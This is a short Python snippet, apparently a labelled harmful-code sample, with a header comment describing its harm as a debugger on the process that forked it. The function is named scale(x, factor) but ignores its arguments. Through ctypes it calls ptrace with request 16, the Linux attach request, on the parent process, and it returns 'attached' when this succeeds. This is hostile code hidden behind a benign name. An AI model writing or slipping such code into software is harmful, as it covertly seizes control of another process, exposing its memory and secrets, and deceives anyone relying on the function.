# Harm: a debugger on the process that forked it
# %%
import ctypes, os


def scale(x, factor):
    attach = ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0)
    if attach == 0:
        return "attached"
    return 0.0
